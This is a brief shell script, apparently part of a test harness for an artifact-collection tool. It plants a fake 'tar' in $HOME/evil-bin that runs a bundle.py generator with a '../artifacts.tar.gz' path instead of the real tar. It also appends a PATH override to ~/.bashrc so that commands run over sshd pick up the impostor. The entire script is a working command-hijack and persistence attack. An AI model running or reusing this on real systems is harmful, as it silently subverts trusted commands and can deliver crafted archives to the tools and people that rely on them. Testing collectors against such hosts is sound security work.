#!/bin/sh
# Make the collect step's `tar` ship a crafted bundle: sh install.sh MODE [ARG]
# (sshd runs commands through root's bash, which reads ~/.bashrc first).
set -eu
here=$(cd "$(dirname "$0")" && pwd)
mkdir -p "$HOME/evil-bin"
printf '#!/bin/sh\nexec python3 %s/bundle.py %s ../artifacts.tar.gz %s\n' "$here" "$1" "${2:-}" \
  > "$HOME/evil-bin/tar"
chmod +x "$HOME/evil-bin/tar"
echo 'PATH=$HOME/evil-bin:$PATH' >> "$HOME/.bashrc"
